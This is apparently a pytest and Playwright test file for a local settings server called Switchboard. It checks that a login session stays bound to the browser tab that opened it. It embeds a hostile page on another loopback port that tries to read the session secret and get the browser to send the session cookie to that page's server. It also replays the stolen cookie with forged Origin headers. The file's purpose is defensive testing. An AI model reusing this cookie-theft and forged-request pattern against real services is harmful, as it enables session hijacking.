"""A settings session is bound to the browser tab that redeemed the login
(issue 14.1), and a browser without a session gets the friendly signed-out
page (issue 13.21). Real Chromium, two loopback origins: Switchboard, and a
"hostile local program" serving pages on another 127.0.0.1 port."""
from __future__ import annotations

from pathlib import Path
from typing import Iterator

import httpx
import pytest

from server.settings_page import auth, login_url
from tests.server.settings_page.conftest import login, openai_provider
from tests.server.settings_page.conftest import CHROMIUM
from tests.support.local_site import LocalSite

playwright_api = pytest.importorskip("playwright.sync_api")
expect = playwright_api.expect
pytestmark = pytest.mark.skipif(not Path(CHROMIUM).exists(), reason=f"no Chromium at {CHROMIUM}")

STEAL_PAGE = b"""<!doctype html><html><body><p id="out">stealing</p><script>
// What any local program's page can try: read the secret, and have the
// browser send the cookie to its own server (cookies ignore ports).
document.getElementById('out').textContent = 'secret=' + sessionStorage.getItem('switchboard.session');
fetch('/settings/collect', {credentials: 'include'}).then(() => { document.title = 'sent'; });
</script></body></html>"""


def hostile_site() -> LocalSite:
    """Another program's web server on 127.0.0.1: it records the Cookie
    headers the browser sends it."""
    return LocalSite(lambda path: ("text/html", STEAL_PAGE if path.startswith("/settings/steal") else b"ok"),
                     methods=("GET",))


@pytest.fixture
def hostile() -> Iterator[LocalSite]:
    site = hostile_site()
    yield site
    site.close()


@pytest.fixture
def server(make_server, upstream):
    return make_server({"providers": {"up": openai_provider(upstream.url)},
                        "routes": {"main": {"default": "up/m1"}}, "active_route": "main"})


def test_a_page_on_another_local_port_gets_the_cookie_but_not_the_session(server, hostile, browser):
    ctx = browser.new_context()
    try:
        page = ctx.new_page()
        page.goto(login_url(server.app, server.port))
        expect(page.locator("#route-pill")).to_contain_text("main")  # the page works: its API calls pass
        assert page.url.endswith("/settings/")  # the secret was never in an address
        assert "switchboard-session" not in page.content()
        secret = page.evaluate("sessionStorage.getItem('switchboard.session')")
        assert secret and len(secret) >= 40

        evil = ctx.new_page()
        evil.goto(hostile.url + "/settings/steal")
        expect(evil).to_have_title("sent")
        # sessionStorage is per origin (the port included): the secret stays home.
        expect(evil.locator("#out")).to_have_text("secret=null")
        # Cookies are not isolated by port: the hostile server did receive it.
        name = auth.cookie_name(server.port)
        stolen = [c for c in hostile.cookies if name in c]
        assert stolen, hostile.cookies
        cookie = stolen[-1].split(f"{name}=", 1)[1].split(";")[0]
        jar = {name: cookie}
        forged = {"origin": server.url, "sec-fetch-site": "same-origin"}
        # ... but the cookie alone opens nothing, even with a forged Origin.
        for method, path, body in [("GET", "state", None), ("GET", "claude-code", None),
                                   ("POST", "active-route", {"id": "main"}), ("POST", "access-key/regenerate", None)]:
            r = httpx.request(method, f"{server.url}/settings/api/{path}", json=body, cookies=jar, headers=forged)
            assert r.status_code == 401, (path, r.text)
            assert r.json()["error"]["details"]["code"] == "no_session"
        # A guessed secret does not help either; the tab's real one does.
        r = httpx.get(server.url + "/settings/api/state", cookies=jar,
                      headers={auth.SESSION_HEADER: "A" * len(secret)})
        assert r.status_code == 401
        r = httpx.get(server.url + "/settings/api/state", cookies=jar, headers={auth.SESSION_HEADER: secret})
        assert r.status_code == 200
    finally:
        ctx.close()


def test_a_tab_without_the_secret_is_signed_out(server, browser):
    ctx = browser.new_context()
    try:
        page = ctx.new_page()
        page.goto(login_url(server.app, server.port))
        expect(page.locator("#route-pill")).to_contain_text("main")
        # Another tab typed to the same address: it has the cookie, not the secret.
        other = ctx.new_page()
        other.goto(server.url + "/settings/")
        expect(other.get_by_role("heading", name="Open Switchboard settings from the app")).to_be_visible()
        assert other.url.endswith("/settings/signed-out")
        # A reload of the signed-in tab keeps its session (sessionStorage lives with the tab).
        page.reload()
        expect(page.locator("#route-pill")).to_contain_text("main")
    finally:
        ctx.close()


@pytest.mark.parametrize("path", ["/settings", "/settings/", "/settings/providers", "/settings/index.html"])
def test_navigating_without_a_session_shows_the_signed_out_page(server, browser, path):
    ctx = browser.new_context()
    try:
        page = ctx.new_page()
        response = page.goto(server.url + path)
        assert response.status == 401 and response.headers["content-type"].startswith("text/html")
        expect(page.get_by_role("heading", name="Open Switchboard settings from the app")).to_be_visible()
        expect(page.locator("main")).to_contain_text("Settings…")
        expect(page.locator("main")).to_contain_text("switchboard settings-link --open")
        assert "no_session" not in page.content()
    finally:
        ctx.close()


def test_readme_address_and_api_errors_without_a_session(server):
    for path in ("/settings", "/settings/", "/settings/whatever"):
        r = httpx.get(server.url + path)
        assert r.status_code == 401 and r.headers["content-type"].startswith("text/html"), path
        assert "settings-link --open" in r.text and '"type":"error"' not in r.text
    # The API keeps its JSON errors.
    for path in ("/settings/api/state", "/settings/api/nothing-here"):
        r = httpx.get(server.url + path)
        assert r.status_code == 401 and r.json()["error"]["details"]["code"] == "no_session"
    cookies, secret = login(server)
    r = httpx.get(server.url + "/settings/api/nothing-here", cookies=cookies, headers=secret)
    assert r.status_code == 404 and r.json()["type"] == "error"
    # Signed in, the README's address leads to the page.
    r = httpx.get(server.url + "/settings", cookies=cookies, follow_redirects=True)
    assert r.status_code == 200 and "static/core.js" in r.text


def test_head_does_not_spend_a_login_token(server):
    token = auth.issue_login_token(server.app)
    for _ in range(3):
        r = httpx.head(server.url + "/settings/login", params={"token": token})
        assert r.status_code == 200 and "set-cookie" not in r.headers
    assert httpx.head(server.url + "/settings/login", params={"token": "guess"}).status_code == 403
    r = httpx.get(server.url + "/settings/login", params={"token": token})
    assert r.status_code == 200 and "switchboard-session" in r.text
    assert httpx.head(server.url + "/settings/login", params={"token": token}).status_code == 403
